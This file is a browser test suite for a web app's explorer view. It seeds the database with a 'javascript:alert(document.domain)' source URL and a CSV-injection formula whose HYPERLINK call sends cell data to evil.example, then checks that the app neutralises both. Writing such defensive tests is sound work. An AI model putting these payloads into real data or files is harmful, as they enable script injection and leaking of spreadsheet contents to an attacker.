// The explorer with hostile data already in the graph (stored before the API validated Source.url, or by any other
// writer of the database): a source URL with the javascript: scheme is shown as text, never as a link, and a
// technology whose name starts with "=" reaches the CSV export behind a single quote, so a spreadsheet shows it as
// text instead of running it. In Debian's headless Chromium, on the seeds.
import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { clickNode, launch, openPage, SCREENSHOTS, waitForView } from './browser.js';

let t: TestApp;
let browser: Browser;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"HBM")';

beforeAll(async () => {
  t = await startTestApp();
  // Written with Cypher, past the API's checks, as data from before them would be.
  await t.db.write(
    "MATCH (s:Source {id: 'source:eenews-sk-hynix-hbm3e-volume-production'}) SET s.url = 'javascript:alert(document.domain)'",
  );
  await t.db.write(
    "MATCH (s:Source {id: 'source:samsung-2024-02-27-hbm3e-12h'}) SET s.url = 'https://example.com/samsung'",
  );
  await t.db.write("MATCH (n:Technology {id: 'tech:hbm'}) SET n.name = $name", { name: FORMULA });
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  await t?.stop();
});

describe('gap explorer with hostile data', () => {
  it('writes a formula-like name into the CSV behind a single quote', async () => {
    const w = await openPage(browser);
    await w.page.goto(`${t.url}/explore`);
    await waitForView(w.page, 'sector:semiconductors');
    const [csv] = await Promise.all([w.page.waitForEvent('download'), w.page.click('button:has-text("CSV")')]);
    const lines = readFileSync((await csv.path())!, 'utf8')
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n');
    const hbm = lines.find((l) => l.startsWith('tech:hbm,'));
    expect(hbm).toBeDefined();
    expect(hbm!.startsWith(`tech:hbm,"'${FORMULA.replace(/"/g, '""')}",`)).toBe(true);
    // No cell of the file starts with a formula character (ids, numbers and quoted cells aside).
    for (const line of lines.slice(1)) expect(line, line).not.toMatch(/(^|,)"?[=+@\t\r]/);
    expect(w.consoleErrors).toEqual([]);
  });

  it('shows a source whose URL is javascript: as text, and an https one as a link', async () => {
    const w = await openPage(browser);
    await w.page.goto(`${t.url}/explore`);
    await waitForView(w.page, 'sector:semiconductors');
    await clickNode(w.page, 'tech:hbm');
    const sources = w.page.locator('[data-panel=technology][data-id="tech:hbm"] ol.sources li');
    await sources.first().waitFor({ timeout: 30_000 });
    await w.page.screenshot({ path: `${SCREENSHOTS}/explorer-hostile-sources.png` });
    const items = await sources.evaluateAll((els) =>
      els.map((li) => ({ text: li.textContent ?? '', href: li.querySelector('a')?.getAttribute('href') ?? null })),
    );
    expect(items.length).toBeGreaterThanOrEqual(2);
    expect(await w.page.locator('a[href^="javascript" i]').count()).toBe(0);
    expect(items.map((i) => i.href)).toContain('https://example.com/samsung');
    const eenews = items.find((i) => /hbm3e/i.test(i.text) && i.href !== 'https://example.com/samsung');
    expect(eenews, JSON.stringify(items)).toBeDefined();
    expect(eenews!.href).toBeNull();
    expect(w.outside).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
  });
});
